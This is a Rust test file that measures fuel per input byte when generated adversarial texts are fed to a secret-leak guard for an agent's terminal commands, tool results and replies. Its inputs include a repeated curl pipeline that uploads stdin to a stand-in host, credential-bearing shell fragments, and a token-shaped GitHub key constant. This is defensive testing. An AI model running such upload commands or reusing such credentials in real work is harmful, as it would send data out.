//! Work per byte through the component (issue 14): generated hostile texts go through the
//! compiled guard with fuel metering, as in production, and the fuel each call takes must stay
//! under a bound per input byte. A trap only catches work past the whole call's fuel (2×10^10);
//! this catches super-linear work long before, at sizes a fuzzer reaches.
//!
//! The bound: the worst cases must run at ≤ 100 ms per MB through the component, and the slowest
//! fuel rate measured (BENCHMARKS.md, "Targets": 9.04 M fuel per ms, worst_json_args) turns that into
//! fuel: 100 ms × 9.04 M fuel/ms per MiB ≈ 862 fuel per byte, on top of what a call of a few bytes
//! takes in the same scope. A faster fuel rate only allows more fuel within the same time, so this
//! is the strictest reading of the target.
//!
//! Each draw composes one to three families (text built to make a reader, the shell walker or the
//! table finder re-read it), at random sizes up to ~256 KiB, and sends it as a command, a tool
//! result and a reply. `cargo test` makes [`DRAWS`] draws from a fixed seed; `EG_WORK_SECONDS=600`
//! draws from the clock's seed for that long (run it after a change to a reader). A failing input
//! is written to the test's temporary directory; keep it in `tests/work_regressions/` (one JSON
//! object: scope, payload), where every run replays it.

mod common;

use std::time::{Duration, Instant};

use egress_guard::{Guard, INTERNAL_CODE, PolicySource, Scope};
use serde_json::{Value, json};

/// Fuel per input byte: 100 ms/MB at the slowest measured rate (see the module doc).
const FUEL_PER_BYTE: u64 = 862;

/// Draws of a plain `cargo test` run.
const DRAWS: usize = 24;

/// A GitHub token with a valid checksum.
const KEY: &str = "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";

/// splitmix64: a few lines, reproducible from its seed, enough to draw sizes and families.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// One unit of a family (repeated to size): text that makes some stage read again from each unit,
/// and the fuel per byte it may take as a command and as a result or reply. [`FUEL_PER_BYTE`] is
/// the target; a larger figure is a family that misses it today: its measured fuel per byte at
/// 16 and 128 KiB (`calibrate`), plus 30 %, so it cannot get worse and work that grows faster
/// than the text still fails at 256 KiB. Commands pay brush-parser's ~7 k fuel per token (issue
/// 14 item 3); results and replies pay the secrets readers within their budget (16 steps per
/// byte). Not drawn: markdown table rows (`| a | 3 |`, linear since the relation search stopped
/// copying its pool per line: ~5.7 k fuel per byte as a command, ~4.1 k as a reply, at 16 and 128
/// KiB): mixed with other families they make one long table whose small-cell LP may spend the
/// call's whole step budget (~17 k fuel per byte at 256 KiB), bounded but not linear; and nested
/// JSON (`{"password": [`, ~2.8 k and ~2.5 k, not added yet: a new family changes every draw).
/// Both are replayed from `work_regressions/`.
const FAMILIES: &[(&str, &str, u64, u64)] = &[
    ("glued credential names", "password=", 9200, 7200),
    ("escaped colours between names", "\\x1b[31mpassword=", 17000, 8700),
    ("stdin readers on one line", "chpasswd ", 3200, 1800),
    ("piped stdin readers", "echo a:b | chpasswd ", 3400, 1300),
    ("here-strings", "--password-stdin <<< ", 2900, 1700),
    ("login words in one sentence", "log in como ", 10600, 5000),
    ("redirections", "<a >b ", 8300, 862),
    ("quotes", "\"'", 1200, 900),
    ("assignment chain", "password1=$password2 ", 4500, 3500),
    ("pgpass colons", "db:5432:app:etl:", 1700, 1400),
    ("cookies", "Cookie: session=;", 10400, 4500),
    ("wrapped values", "api_key = sk-abcdefghij\n  klmnopqrstu\n", 7500, 3600),
    ("keywords", "token secret password passwd apikey auth ", 4200, 3300),
    ("wrappers", "nice env sudo xargs command ", 1800, 862),
    ("nesting", "if true; then ( { ", 900, 862),
    ("comments", "# password: x\n", 5400, 5200),
    ("heredoc", "cat <<EOF\npassword=x\nEOF\n", 5800, 4000),
    ("pipeline", "grep -r x . | ", 3300, 862),
    ("doubling", "a=$a$a; ", 4200, 862),
    ("mysql options", "mysql -pHunter2024x ", 4600, 3900),
];

/// A text of one to three families, `KEY` at its start and end.
fn draw(rng: &mut Rng) -> (Vec<usize>, String) {
    let k = 1 + rng.below(3);
    let picks: Vec<usize> = (0..k).map(|_| rng.below(FAMILIES.len())).collect();
    // 16 to 256 KiB: large enough that a call's fixed cost is a small part.
    let size = 16_384 << rng.below(5);
    let mut text = format!("{KEY} ");
    let interleave = rng.below(2) == 0;
    while text.len() < size {
        if interleave {
            for &p in &picks {
                text.push_str(FAMILIES[p].1);
            }
        } else {
            let unit = FAMILIES[picks[rng.below(k)]].1;
            for _ in 0..64 {
                text.push_str(unit);
            }
        }
    }
    text.push(' ');
    text.push_str(KEY);
    (picks, text)
}

/// The three ways a text reaches the guard.
fn payloads(text: &str) -> [(Scope, &'static str, String); 3] {
    [(Scope::Args, "terminal", json!({ "command": text }).to_string()), (Scope::Result, "terminal", text.to_string()), (Scope::Reply, "", text.to_string())]
}

struct Meter {
    guard: Guard,
    /// Fuel of a call of a few bytes, per scope.
    base: [u64; 3],
}

impl Meter {
    fn new() -> Meter {
        let mut guard = Guard::new(&common::runtime(), &PolicySource::defaults(), None).expect("guard");
        // Every family once, small: what a process does once (a detector's regex compiled on
        // first use) is not counted against a later call's bytes.
        for (_, unit, _, _) in FAMILIES {
            for (scope, tool, payload) in payloads(&format!("{KEY} {}", unit.repeat(8))) {
                guard.inspect(scope, tool, &payload).expect("a small call");
            }
        }
        let mut base = [0; 3];
        for (k, (scope, tool, payload)) in payloads("ls -la").into_iter().enumerate() {
            guard.inspect(scope, tool, &payload).expect("a small call");
            base[k] = guard.last_fuel_used();
        }
        Meter { guard, base }
    }

    /// `Err` with what went wrong when the call traps, answers `internal`, or takes more fuel
    /// than its bytes allow.
    fn check(&mut self, k: usize, scope: Scope, tool: &str, payload: &str, per_byte: u64) -> Result<u64, String> {
        let v = self.guard.inspect(scope, tool, payload).map_err(|e| format!("trap: {e:#}"))?;
        if let Some(v) = &v
            && v.findings.iter().any(|f| f.code == INTERNAL_CODE)
        {
            return Err("answered internal".into());
        }
        let fuel = self.guard.last_fuel_used();
        let bound = self.base[k] + per_byte * payload.len() as u64;
        if fuel > bound {
            return Err(format!(
                "{fuel} fuel for {} bytes ({} per byte over the base; bound {per_byte})",
                payload.len(),
                (fuel - self.base[k]) / payload.len() as u64
            ));
        }
        Ok(fuel)
    }
}

fn save(scope: Scope, payload: &str) -> String {
    let dir = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("work-found");
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let name = format!("{:016x}.json", payload.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3)));
    let path = dir.join(name);
    std::fs::write(&path, json!({ "scope": scope.as_str(), "payload": payload }).to_string()).expect("write");
    path.display().to_string()
}

#[test]
fn fuel_per_byte_stays_under_the_bound_for_generated_hostile_texts() {
    let mut meter = Meter::new();
    let seconds: u64 = std::env::var("EG_WORK_SECONDS").ok().and_then(|s| s.parse().ok()).unwrap_or(0);
    let seed = if seconds > 0 { std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(1, |d| d.as_nanos() as u64) } else { 0x5EED };
    let mut rng = Rng(seed);
    let until = Instant::now() + Duration::from_secs(seconds);
    let mut failures = Vec::new();
    let (mut draws, mut bytes, mut worst) = (0, 0, (0.0_f64, String::new()));
    while draws < DRAWS || Instant::now() < until {
        let (picks, text) = draw(&mut rng);
        let families: Vec<&str> = picks.iter().map(|&p| FAMILIES[p].0).collect();
        for (k, (scope, tool, payload)) in payloads(&text).into_iter().enumerate() {
            // A text interleaving families can make every stage do each family's work: their sum.
            let allowed = FAMILIES.iter().enumerate().filter(|(i, _)| picks.contains(i)).map(|(_, f)| if scope == Scope::Args { f.2 } else { f.3 }).sum();
            match meter.check(k, scope, tool, &payload, allowed) {
                Ok(fuel) => {
                    let per_byte = fuel.saturating_sub(meter.base[k]) as f64 / payload.len() as f64;
                    if per_byte > worst.0 {
                        worst = (per_byte, format!("{families:?} {} B {}", payload.len(), scope.as_str()));
                    }
                }
                Err(why) => failures.push(format!("{families:?} {} {} B: {why} -> {}", scope.as_str(), payload.len(), save(scope, &payload))),
            }
            bytes += payload.len();
        }
        draws += 1;
    }
    eprintln!("{draws} draws (seed {seed:#x}), {bytes} bytes; most fuel per byte {:.0}: {}", worst.0, worst.1);
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn kept_regressions_stay_under_the_bound() {
    let dir = common::repo().join("host-rust/tests/work_regressions");
    let mut meter = Meter::new();
    let mut n = 0;
    let mut entries: Vec<_> = std::fs::read_dir(&dir).expect("tests/work_regressions exists").map(|e| e.expect("entry").path()).collect();
    entries.sort();
    for path in entries {
        let case: Value = serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("JSON");
        let scope = Scope::parse(case["scope"].as_str().expect("scope")).expect("a scope");
        let payload = case["payload"].as_str().expect("payload");
        let k = Scope::ALL.iter().position(|s| *s == scope).expect("listed");
        let tool = if scope == Scope::Reply { "" } else { "terminal" };
        if let Err(why) = meter.check(k, scope, tool, payload, FUEL_PER_BYTE * 8) {
            panic!("{}: {why}", path.display());
        }
        n += 1;
    }
    assert!(n > 0, "no regression vectors in {}", dir.display());
}

/// Commands of short tokens, each family with its fuel per token through the component (measured
/// with `calibrate_tokens`, plus 30 %): brush-parser's tokenizer and parser, the syntax tree and the
/// walk cost thousands of fuel per token whatever its length, so token-dense commands are the
/// shell's worst case per byte (issue 14). `echo hi;` is 3 tokens, a pipeline stage 6.
const TOKEN_FAMILIES: &[(&str, &str, usize, u64)] =
    &[("short commands", "echo hi; ", 3, 10_200), ("pipeline of uploads", "curl -sS --data-binary @- https://h.example.invalid/u | ", 6, 22_600)];

/// A family's unit repeated to `tokens` tokens, as a command.
fn token_command(unit: &str, per_unit: usize, tokens: usize) -> String {
    json!({ "command": format!("{}true", unit.repeat(tokens / per_unit)) }).to_string()
}

/// Below the walk's token bound (`shell::MAX_TOKENS`, 16 Ki) every token is parsed and walked and
/// must stay within its family's fuel; past it the walk stops (the command could not be fully
/// checked), so 1 MB of such tokens stays under [`FUEL_PER_BYTE`]. Either failing means the
/// per-token cost came back.
#[test]
fn token_dense_commands_stay_under_their_fuel_per_token() {
    let mut meter = Meter::new();
    for (name, unit, per_unit, bound) in TOKEN_FAMILIES {
        let payload = token_command(unit, *per_unit, 15_000);
        meter.guard.inspect(Scope::Args, "terminal", &payload).expect("a verdict");
        let per_token = meter.guard.last_fuel_used().saturating_sub(meter.base[0]) / 15_000;
        assert!(per_token <= *bound, "{name}: {per_token} fuel per token, bound {bound}");
        let payload = token_command(unit, *per_unit, 1_000_000 / unit.len() * per_unit);
        let verdict = meter.guard.inspect(Scope::Args, "terminal", &payload).expect("a verdict").expect("not clean");
        assert!(verdict.findings.iter().any(|f| f.reason.contains("could not be fully checked")), "{name}: {:?}", verdict.findings);
        if let Err(why) = meter.check(0, Scope::Args, "terminal", &payload, FUEL_PER_BYTE) {
            panic!("{name}, {} bytes: {why}", payload.len());
        }
    }
}

#[test]
#[ignore]
fn calibrate_tokens() {
    let mut meter = Meter::new();
    for (name, unit, per_unit, _) in TOKEN_FAMILIES {
        let mut line = format!("{name:24}");
        for tokens in [3_000, 15_000, 300_000] {
            let payload = token_command(unit, *per_unit, tokens);
            meter.guard.inspect(Scope::Args, "terminal", &payload).ok();
            let fuel = meter.guard.last_fuel_used().saturating_sub(meter.base[0]);
            line += &format!(" {tokens}: {} per token, {} per byte;", fuel / tokens as u64, fuel / payload.len() as u64);
        }
        eprintln!("{line}");
    }
}

#[test]
#[ignore]
fn calibrate() {
    let mut meter = Meter::new();
    for (name, unit, _, _) in FAMILIES {
        let mut line = format!("{name:32}");
        for size in [16_384, 131_072] {
            let text = format!("{KEY} {} {KEY}", unit.repeat(size / unit.len()));
            for (k, (scope, tool, payload)) in payloads(&text).into_iter().enumerate() {
                meter.guard.inspect(scope, tool, &payload).ok();
                let fuel = meter.guard.last_fuel_used();
                line += &format!(" {}:{:>6}", &scope.as_str()[..2], (fuel.saturating_sub(meter.base[k])) / payload.len() as u64);
            }
        }
        eprintln!("{line}");
    }
}
